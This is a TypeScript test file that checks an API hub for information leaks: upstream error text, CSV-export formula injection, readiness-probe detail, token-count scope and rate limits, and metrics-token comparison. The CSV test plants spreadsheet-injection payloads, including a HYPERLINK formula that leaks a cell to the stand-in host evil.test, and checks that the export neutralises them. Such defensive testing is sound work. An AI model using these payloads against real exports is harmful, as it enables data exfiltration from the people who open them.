import { randomBytes } from "node:crypto";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { freePort, startHubProcess, type HubProcess } from "../helpers/hub-process";
import { REDIS_URL, startHubFixture, type HubFixture } from "../helpers/hub-fixture";
import { startTcpProxy, type TcpProxy } from "../helpers/tcp-proxy";

// What a tenant (or anyone) can learn or plant through the hub's answers: internal addresses in
// upstream errors, formulas in the admin's CSV export, internals on the readiness probe, a
// count_tokens call outside the key's scope and limits, and the metrics token's comparison.

const METRICS_TOKEN = "metrics-token-leaks-0123456789";
let f: HubFixture;
let adminToken: string;

beforeAll(async () => {
  f = await startHubFixture({ env: { HUB_METRICS_TOKEN: METRICS_TOKEN } });
  await f.lib.createUser({ email: "ops@test.local", role: "admin" }, "test");
  const { createAdminToken } = await import("@/lib/admin/tokens");
  adminToken = (await createAdminToken({ name: "exports", scope: "read" }, "test")).secret;
}, 90_000);

afterAll(async () => {
  await f?.close();
});

const json = { "content-type": "application/json" };
const chat = (key: string, model: string) =>
  fetch(`${f.hub.baseURL}/chat/completions`, { method: "POST", headers: { ...json, authorization: `Bearer ${key}` }, body: JSON.stringify({ model, messages: [{ role: "user", content: "hi" }] }) });

describe("upstream failures", () => {
  it("tell the tenant the provider could not be reached, without its address; the admin's call detail keeps it", async () => {
    const closed = await freePort();
    await f.lib.addProvider({ type: "openai", name: "unreachable", baseUrl: `http://127.0.0.1:${closed}/v1`, apiKey: "sk-unreachable-0000" }, "test");
    await f.lib.addModel({ name: "unreachable-model", provider: "unreachable", upstreamModel: "m", type: "chat", inputUsdPer1M: "1", outputUsdPer1M: "1" }, "test");
    await new Promise((r) => setTimeout(r, 1500)); // the registry picks the model up

    for (const stream of [false, true]) {
      const res = await fetch(`${f.hub.baseURL}/chat/completions`, {
        method: "POST",
        headers: { ...json, authorization: `Bearer ${f.apiKey}` },
        body: JSON.stringify({ model: "unreachable-model", stream, messages: [{ role: "user", content: "hi" }] }),
      });
      expect(res.status).toBe(502);
      const text = await res.text();
      expect(text).not.toMatch(/127\.0\.0\.1|ECONNREFUSED|localhost|:\d{2,5}\b/);
      expect(JSON.parse(text)).toMatchObject({ error: { type: "upstream_error", code: "upstream_unreachable", message: "Could not reach the upstream provider 'unreachable'." } });

      const event = await f.usageEvent(res.headers.get("x-request-id")!);
      expect(event.errorMessage).toMatch(/ECONNREFUSED|connect/);
    }
  });
});

describe("the admin's CSV export", () => {
  it("writes tenant-chosen text that looks like a formula as text, not as a live formula", async () => {
    const planted = ['=HYPERLINK("http://evil.test/?leak="&A1,"click")', "+SUM(1+1)", "-2+3", "@SUM(1)", "\tTAB=1", "\rCR=1"];
    const ids: string[] = [];
    for (const model of planted) {
      const res = await chat(f.apiKey, model);
      expect(res.status).toBe(404);
      ids.push(res.headers.get("x-request-id")!);
    }
    for (const id of ids) await f.usageEvent(id);

    const res = await fetch(`${f.hub.url}/api/admin/v1/analytics/export`, { headers: { authorization: `Bearer ${adminToken}` } });
    expect(res.status).toBe(200);
    const csv = await res.text();
    const cells = parseCsv(csv);
    const header = cells[0]!;
    const modelColumn = header.indexOf("requestedModel");
    const byId = new Map(cells.slice(1).map((row) => [row[header.indexOf("requestId")], row]));
    for (const [i, id] of ids.entries()) {
      const cell = byId.get(id)?.[modelColumn];
      // the cell as a spreadsheet reads it: the planted text, made inert by a leading quote
      expect(cell).toBe(`'${planted[i]}`);
    }
    // no cell anywhere starts a formula
    for (const row of cells) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });
});

/** RFC 4180 parsing, as a spreadsheet does. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = "";
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ",") {
      row.push(cell);
      cell = "";
    }
    else if (c === "\n" || (c === "\r" && text[i + 1] === "\n")) {
      if (c === "\r") i++;
      row.push(cell);
      rows.push(row);
      row = [];
      cell = "";
    } else cell += c;
  }
  if (cell || row.length) rows.push([...row, cell]);
  return rows;
}

describe("/readyz", () => {
  let proxy: TcpProxy;
  let hub: HubProcess;

  beforeAll(async () => {
    const redis = new URL(REDIS_URL);
    proxy = await startTcpProxy({ host: redis.hostname, port: Number(redis.port || 6379) });
    hub = await startHubProcess({ ...f.env, REDIS_URL: `redis://127.0.0.1:${proxy.port}`, HUB_REDIS_PREFIX: `test-${randomBytes(6).toString("hex")}` });
  }, 60_000);

  afterAll(async () => {
    await hub?.stop("SIGKILL");
    await proxy?.close();
  });

  it("does not open a Redis connection per probe", async () => {
    expect((await fetch(`${hub.url}/readyz`)).status).toBe(200);
    const before = proxy.accepted;
    for (let i = 0; i < 20; i++) expect((await fetch(`${hub.url}/readyz`)).status).toBe(200);
    expect(proxy.accepted - before).toBeLessThanOrEqual(1);
  });

  it("shows anyone only which check failed, never the error text; the metrics token sees the detail", async () => {
    await proxy.cut();
    try {
      const res = await fetch(`${hub.url}/readyz`);
      expect(res.status).toBe(503);
      const text = await res.text();
      expect(JSON.parse(text)).toEqual({ status: "not_ready", checks: { database: "ok", migrations: "ok", redis: "failed" } });
      expect(text).not.toMatch(/127\.0\.0\.1|ECONNREFUSED|connect|closed/i);

      const detailed = await fetch(`${hub.url}/readyz`, { headers: { authorization: `Bearer ${METRICS_TOKEN}` } });
      expect(detailed.status).toBe(503);
      expect(await detailed.json()).toMatchObject({ status: "not_ready", checks: { redis: { ok: false, error: expect.any(String) } } });
    } finally {
      await proxy.restore();
    }
  });
});

describe("count_tokens", () => {
  const count = (key: string, model: string) =>
    fetch(`${f.hub.url}/v1/messages/count_tokens`, {
      method: "POST",
      headers: { ...json, "x-api-key": key, "anthropic-version": "2023-06-01" },
      body: JSON.stringify({ model, messages: [{ role: "user", content: "hello there" }] }),
    });

  it("refuses a model outside the key's scope with 403, as /v1/messages does", async () => {
    const scoped = (await f.lib.createApiKey({ userEmail: "dev@test.local", name: "embeddings only", models: ["text-embedding-3-small"] }, "test")).secret;
    await new Promise((r) => setTimeout(r, 1500)); // a new key reaches the cache
    const res = await count(scoped, "gpt-4o-mini");
    expect(res.status).toBe(403);
    expect(await res.json()).toMatchObject({ type: "error", error: { type: "permission_error" } });
    expect((await count(f.apiKey, "gpt-4o-mini")).status).toBe(200);
  });

  it("counts against the key's rate limits", async () => {
    const { secret, key } = await f.lib.createApiKey({ userEmail: "dev@test.local", name: "one a minute" }, "test");
    await f.lib.setRateLimits({ keyId: key.id }, { rpm: "1" }, "test");
    await new Promise((r) => setTimeout(r, 1500));
    expect((await count(secret, "gpt-4o-mini")).status).toBe(200);
    const second = await count(secret, "gpt-4o-mini");
    expect(second.status).toBe(429);
    expect(second.headers.get("retry-after")).toMatch(/^\d+$/);
  });
});

describe("the metrics token", () => {
  it("is refused when it is a prefix, longer, or differs in its last character", async () => {
    for (const wrong of [METRICS_TOKEN.slice(0, -1), `${METRICS_TOKEN}x`, `${METRICS_TOKEN.slice(0, -1)}X`, "", METRICS_TOKEN.slice(0, 4)]) {
      const res = await fetch(`${f.hub.url}/metrics`, { headers: { authorization: `Bearer ${wrong}` } });
      expect(res.status).toBe(401);
    }
    expect((await fetch(`${f.hub.url}/metrics`, { headers: { authorization: `Bearer ${METRICS_TOKEN}` } })).status).toBe(200);
  });
});
